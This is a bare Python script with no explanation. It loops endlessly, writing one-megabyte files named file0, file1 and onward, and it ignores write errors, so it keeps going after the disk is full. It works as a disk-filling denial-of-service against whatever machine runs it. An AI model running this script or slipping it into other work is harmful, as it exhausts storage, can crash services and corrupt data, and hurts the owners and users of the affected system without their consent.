i = 0
while True:
    try:
        with open(f"file{i}", "wb") as file:
            file.write(b"x" * 1_000_000)
    except OSError:
        pass
    i += 1
